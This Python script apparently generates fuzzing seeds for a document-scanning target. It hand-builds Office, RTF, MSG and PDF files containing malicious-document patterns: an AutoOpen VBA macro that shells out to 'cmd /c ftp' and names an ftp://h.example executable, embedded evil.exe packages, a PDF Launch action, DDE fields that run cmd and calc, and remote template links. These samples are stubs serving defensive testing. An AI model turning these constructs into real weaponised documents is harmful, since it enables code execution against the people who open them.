#!/usr/bin/env python3
"""Makes the seeds of the fuzz target `document`. usage: document.py (from anywhere; msibuild and qpdf are used where installed)"""
import io
import pathlib
import struct
import subprocess
import tempfile
import zipfile

here = pathlib.Path(__file__).resolve().parent / "document"
here.mkdir(exist_ok=True)
FREE, END = 0xFFFFFFFF, 0xFFFFFFFE


def compound(streams):
    """A compound file of 512-byte sectors. [MS-CFB]"""
    entries = [["Root Entry", 5, FREE, FREE, END, 0]]
    storages = {"": 0}
    small, sectors, small_table, table = bytearray(), bytearray(), [], []

    def chain(table, count):
        start = len(table)
        table.extend(END if at + 1 == count else start + at + 1 for at in range(count))
        return start if count else END

    def add(parent, name, kind):
        entries.append([name, kind, FREE, entries[parent][2], END, 0])
        entries[parent][2] = len(entries) - 1
        return len(entries) - 1

    for path, data in streams:
        parent, so_far = 0, ""
        *folders, name = path.split("/")
        for folder in folders:
            so_far += "/" + folder
            if so_far not in storages:
                storages[so_far] = add(parent, folder, 1)
            parent = storages[so_far]
        entry = entries[add(parent, name, 2)]
        into, chained, unit = (small, small_table, 64) if len(data) < 4096 else (sectors, table, 512)
        entry[5], entry[4] = len(data), chain(chained, -(-len(data) // unit))
        into += data + bytes(-len(data) % unit)

    def append(data):
        start = chain(table, -(-len(data) // 512))
        sectors.extend(data + bytes(-len(data) % 512))
        return start

    entries[0][4], entries[0][5] = append(bytes(small)), len(small)
    small_start = append(struct.pack(f"<{len(small_table)}I", *small_table))
    directory = b""
    for name, kind, child, right, start, size in entries:
        units = name.encode("utf-16le")
        directory += units.ljust(64, b"\0") + struct.pack("<HBBIII", len(units) + 2, kind, 1, FREE, right, child)
        directory += bytes(36) + struct.pack("<IQ", start, size)
    directory_start = append(directory)
    table_start = len(table)
    table.append(0xFFFFFFFD)
    header = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(16) + struct.pack("<HHHHH", 0x3E, 3, 0xFFFE, 9, 6) + bytes(10)
    header += struct.pack("<9I", 1, directory_start, 0, 4096, small_start, 1, END, 0, table_start)
    return header.ljust(512, b"\xff") + bytes(sectors) + struct.pack(f"<{len(table)}I", *table).ljust(512, b"\xff")


def packed(source):
    body = b"".join(b"\0" + source[at:at + 8] for at in range(0, len(source), 8))
    return b"\1" + struct.pack("<H", (len(body) - 1) | 0xB000) + body


def record(number, data):
    return struct.pack("<HI", number, len(data)) + data


SOURCE = b'Attribute VB_Name = "Evil"\r\nSub AutoOpen()\r\nShell "cmd /c ftp -s:x"\r\nu = "ftp://h.example/a.exe"\r\nEnd Sub\r\n'
project = [
    ("VBA/dir", packed(record(0x19, b"Evil") + record(0x1A, b"Evil") + record(0x31, struct.pack("<I", 4)))),
    ("VBA/Evil", b"code" + packed(SOURCE)),
]
program = b"MZ" + bytes(62)
package = b"\2\0evil.exe\0C:\\x\\evil.exe\0\0\0\3\0\x0e\0\0\0C:\\t\\evil.exe\0" + struct.pack("<I", len(program)) + program
sheet = b"\x85\0\x0c\0" + struct.pack("<IBBBB", 0, 1, 1, 4, 0) + b"Mac1"
workbook = b"\x09\x08\x04\0\0\x06\x05\0" + sheet + b"\x2f\0\2\0\1\0" + b"\x0a\0\0\0"
summary = struct.pack("<HHI16sI16sI", 0xFFFE, 0, 2, bytes(16), 1, bytes(16), 48)
summary += struct.pack("<IIIIII", 60, 2, 4, 24, 12, 40) + struct.pack("<II", 0x1E, 4) + b"Bob\0" + bytes(4) + struct.pack("<IQ", 0x40, 132223104000000000)
text = lambda data: struct.pack("<I", len(data) + 1) + data + b"\0"
ole1 = struct.pack("<II", 0x501, 2) + text(b"Package") + bytes(8) + struct.pack("<I", len(package)) + package
pdf = (b"%PDF-1.5\n1 0 obj\n<</Type/Catalog/Pages 2 0 R/Open#41ction 3 0 R>>\nendobj\n2 0 obj\n<</Type/Pages/Kids[]/Count 0>>\nendobj\n"
       b"3 0 obj\n<</S/Launch/F(cmd.exe)/P(/c ftp -s:x)/Next 4 0 R>>\nendobj\n4 0 obj\n<</S/JavaScript/JS(app.alert\\(1\\))>>\nendobj\n"
       b"5 0 obj\n<</Length 9>>stream\n/Launch/A\nendstream\nendobj\ntrailer<</Root 1 0 R/Size 6>>\n%%EOF\n")
office = io.BytesIO()
with zipfile.ZipFile(office, "w", zipfile.ZIP_DEFLATED) as archive:
    for name, data in {
        "[Content_Types].xml": b"<Types/>",
        "word/document.xml": b"<w:instrText>DDE</w:instrText><w:instrText>AUTO cmd &quot;/c ftp&quot;</w:instrText>",
        "word/_rels/settings.xml.rels": b'<Relationship Type="http://x/attachedTemplate" Target="http://e.example/t.dotm" TargetMode="External"/>',
        "word/vbaProject.bin": compound(project),
        "word/embeddings/oleObject1.bin": compound([("\1Ole10Native", bytes(4) + package)]),
        "xl/externalLinks/externalLink1.xml": b'<ddeLink ddeService="cmd" ddeTopic="/c calc"/>',
        "docProps/core.xml": b"<dc:creator>Bob</dc:creator><dcterms:created>2020-01-02T03:04:05Z</dcterms:created>",
    }.items():
        archive.writestr(zipfile.ZipInfo(name, (2024, 7, 5, 12, 0, 0)), data, zipfile.ZIP_DEFLATED)
seeds = {
    "macros": compound([("Macros/" + path, data) for path, data in project] + [("WordDocument", bytes(5000)), ("\5SummaryInformation", summary)]),
    "workbook": compound([("Workbook", workbook), ("ObjectPool/_1/\1Ole10Native", bytes(4) + package)]),
    "encrypted": compound([("EncryptedPackage", bytes(64)), ("EncryptionInfo", bytes(64))]),
    "message": compound([("__attach_version1.0_#00000000/__substg1.0_3707001F", "a.exe".encode("utf-16le")),
                         ("__attach_version1.0_#00000000/__substg1.0_37010102", program)]),
    "rtf": b"{\\rtf1{\\object\\objemb\\objupdate{\\*\\objdata " + ole1.hex().encode() + b"}}{\\*\\template http://e.example/x.dot}}",
    "pdf": pdf,
    "docx": office.getvalue(),
}
with tempfile.TemporaryDirectory() as folder:
    folder = pathlib.Path(folder)
    (folder / "a.pdf").write_bytes(pdf)
    for line, made in (("msibuild a.msi -s Setup Bob", "a.msi"), ("qpdf --object-streams=generate --warning-exit-0 a.pdf b.pdf", "b.pdf")):
        try:
            subprocess.run(line.split(), cwd=folder, check=True, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
            seeds[made] = (folder / made).read_bytes()
        except (OSError, subprocess.CalledProcessError) as error:
            print("skipped:", error)
for name, data in seeds.items():
    (here / name).write_bytes(data)
print(f"{len(seeds)} seeds, {sum(map(len, seeds.values())):,} bytes")
